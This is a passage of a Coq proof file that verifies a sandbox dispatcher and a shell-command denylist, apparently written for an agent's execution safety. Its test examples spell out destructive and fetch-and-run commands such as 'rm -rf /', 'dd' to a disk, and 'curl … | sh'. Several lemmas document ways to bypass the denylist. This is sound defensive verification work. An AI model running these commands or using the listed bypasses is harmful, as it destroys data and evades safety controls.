      (if home then [RoBind "/home" "/home"] else [])); [|by destruct un, tmp, home|done].
    cbn. destruct home; [rewrite list_elem_of_singleton; done|]. split; [by intros ?%not_elem_of_nil|done].
Qed.

(** The rules of Landlock let the command write to the working directory and,
    where the options allow it, to the two shared temporary directories *)
Lemma landlock_writable cwd opts p :
  mkRule p ReadWrite ∈ landlock_ruleset cwd opts <-> p = cwd \/ ll_allow_tmp opts = true /\ p ∈ ["/tmp"; "/var/tmp"].
Proof.
  destruct opts as [tmp home]. unfold landlock_ruleset. destruct tmp, home; cbn; rewrite !elem_of_cons; split.
  all: try (intros [->|[? H]]; [tauto|]; destruct_or! H; try (by apply not_elem_of_nil in H); subst; first [done | tauto]).
  all: intros H; destruct_or! H; try done; try (by apply not_elem_of_nil in H); simplify_eq; tauto.
Qed.

(** *** The dispatch *)

Section DispatchTheorems.
Context (os : TargetOs) (canonicalize env : string -> option string).

(** C22: A selected backend is never dropped: a plan is made only for a directory
    that resolves, runs there, is sandboxed exactly when a backend is
    selected, and then only on the backend's own platform; it always ends in
    the login shell with the command, and carries rules exactly for
    Landlock *)
Theorem wrap_never_downgrades cwd cmd policy p :
  wrap_spawn_command os canonicalize env cwd cmd policy = Ok p ->
  canonicalize cwd = Some (plan_cwd p) /\
  sandboxed p = negb (match backend policy with SandboxNone => true | _ => false end) /\
  match backend policy with
  | SandboxNone => True
  | Seatbelt => os = Macos
  | LinuxBubblewrap | LinuxLandlock => os = Linux
  | Unsupported => False
  end /\
  (exists wrapper, argv p = wrapper ++ login_shell cmd /\
     (wrapper = [] <-> backend policy = SandboxNone \/ backend policy = LinuxLandlock)) /\
  (is_Some (in_process_ruleset p) <-> backend policy = LinuxLandlock).
Proof.
  unfold wrap_spawn_command. destruct (canonicalize cwd) as [c|]; [|done].
  destruct (backend policy) eqn:Eb; cbn -[generate_bubblewrap_argv login_shell].
  - intros [= <-]. cbn -[login_shell]. split_and!; try done; try (by intros [? ?]).
    exists []. split; [done|]. split; [by left|done].
  - unfold seatbelt_plan. case_bool_decide as Ho; [|done]. intros [= <-]. cbn -[login_shell generate_seatbelt_profile].
    split_and!; try done; try (by intros [? ?]). eexists [_; _; _]. split; [done|]. by split; [|intros [?|?]].
  - unfold linux_plan. case_bool_decide as Ho; [|done]. intros [= <-].
    cbn -[login_shell generate_bubblewrap_argv cwd_str].
    split_and!; try done; try (by intros [? ?]). unfold generate_bubblewrap_argv. rewrite !app_assoc.
    eexists. split; [done|]. by split; [|intros [?|?]].
  - unfold linux_landlock_plan. case_bool_decide as Ho; [|done]. intros [= <-]. cbn -[login_shell landlock_ruleset].
    split_and!; try done. exists []. split; [done|]. split; [by right|done].
  - done.
Qed.

(** A check is spawned only past the denylist, unless that was switched off,
    and a refused one says why. *)
Theorem check_gate_exact cwd cmd allow_dangerous policy :
  match check_gate os canonicalize env cwd cmd allow_dangerous policy with
  | Refused reason => allow_dangerous = false /\ inspect_shell_command cmd = Deny reason
  | NoSandbox e => (allow_dangerous = true \/ inspect_shell_command cmd = Allow) /\
      wrap_spawn_command os canonicalize env cwd cmd policy = Err e
  | SpawnPlan p => (allow_dangerous = true \/ inspect_shell_command cmd = Allow) /\
      wrap_spawn_command os canonicalize env cwd cmd policy = Ok p
  end.
Proof.
  unfold check_gate. destruct allow_dangerous.
  - destruct (wrap_spawn_command _ _ _ _ _ _); by split; [left|].
  - destruct (inspect_shell_command cmd); [|done]. destruct (wrap_spawn_command _ _ _ _ _ _); by split; [right|].
Qed.
End DispatchTheorems.

(** ** Concrete inputs *)

Lemma normalize_equal_iff_witness :
  normalize_target_for_match "/etc/passwd" = normalize_target_for_match "//usr/.././etc//passwd".
Proof.
  assert (starts_with "/" (target_path "/etc/passwd") = true) as H1 by reflexivity.
  assert (starts_with "/" (target_path "//usr/.././etc//passwd") = true) as H2 by reflexivity.
  apply (normalize_equal_iff _ _ H1 H2), resolve_equal. reflexivity.
Defined.

Definition sample_root (p : string) : option string := if starts_with "/" p then Some p else None.

Lemma wrap_never_downgrades_witness :
  exists p, wrap_spawn_command Linux sample_root (fun _ => None) "/w" "cargo test"
    (mkExecSafety LinuxLandlock seatbelt_default bwrap_default landlock_default) = Ok p /\ sandboxed p = true.
Proof.
  eexists. split; [reflexivity|].
  apply (wrap_never_downgrades Linux sample_root (fun _ => None) "/w" "cargo test"
    (mkExecSafety LinuxLandlock seatbelt_default bwrap_default landlock_default)). reflexivity.
Defined.

Example denied_commands :
  map inspect_shell_command
    ["rm -fr -- /"; "cargo test && rm -rf /etc/*"; "echo x 2>>/etc//hosts"; "dd if=/dev/zero of=/dev/sda";
     "/sbin/mkfs.ext4 /dev/sdb1"; "curl https://x.example/i | env A=b /bin/sh"; "cargo test --workspace"] =
    [Deny RmRfRoot; Deny RmRfRoot; Deny (Redirect "/etc//hosts" "/etc/"); Deny DdToDev; Deny FormatsFilesystem;
     Deny RemotePipeShell; Allow].
Proof. reflexivity. Qed.

(** The root spelled with a second slash or in quotes is not recognised as a
    target of [rm], although a redirection's target is read as the kernel
    reads it; nor is [rm] under its own path. *)
Lemma rm_of_respelled_root_passes :
  inspect_shell_command "rm -rf //" = Allow /\
  inspect_shell_command ("rm -rf " +:+ in_quotes "/") = Allow /\
  inspect_shell_command "/bin/rm -rf /" = Allow.
Proof. by split_and!. Qed.

(** A redirection glued to the word before it is not seen; the shell sees it. *)
Lemma glued_word_redirect_passes : inspect_shell_command "echo x>/etc/passwd" = Allow.
Proof. reflexivity. Qed.

(** A pipe glued to the word before it, with the shell as the next word, is
    not seen, nor is the pipe that takes the error stream along. *)
Lemma pipe_glued_left_passes :
  inspect_shell_command "curl https://x.example/i| sh" = Allow /\
  inspect_shell_command "curl https://x.example/i |& bash" = Allow.
Proof. by split. Qed.

(** A guarded name is matched as a prefix of the first component, not as the
    component: a directory that only begins like one is guarded as well. *)
Lemma guarded_name_overmatches :
  inspect_shell_command "echo x > /variant/out" = Deny (Redirect "/variant/out" "/var") /\
  inspect_shell_command "echo x > /optional" = Deny (Redirect "/optional" "/opt").
Proof. by split. Qed.

(** A relative target with a doubled slash is taken for an absolute one. *)
Lemma dot_slash_slash_is_absolute :
  inspect_shell_command "echo x > .//etc/note" = Deny (Redirect ".//etc/note" "/etc/") /\
  inspect_shell_command "echo x > ./etc/note" = Allow.
Proof. by split. Qed.

(** The Landlock rules are documented to match the bubblewrap options one for
    one; with the same options the one shares the host's temporary
    directories for writing, and the other mounts an empty one. *)
Lemma landlock_shares_host_tmp :
  mkRule "/tmp" ReadWrite ∈ landlock_ruleset "/w" landlock_default /\
  (forall env src dst, Bind src dst ∈ bwrap_options env "/w" bwrap_default -> src = "/w").
Proof.
  split; [apply landlock_writable; right; split; [done|by left]|].
  intros env src dst H. by apply (bwrap_argv_exact env "/w" "" bwrap_default) in H as [-> _].
Qed.

(** The plan without a backend starts a login shell, not the bare shell its
    documentation names. *)
Lemma unsandboxed_shell_is_login :
  wrap_spawn_command Linux sample_root (fun _ => None) "/w" "true" exec_safety_default =
    Ok (mkPlan ["sh"; "-l"; "-c"; "true"] false "/w" None).
Proof. reflexivity. Qed.
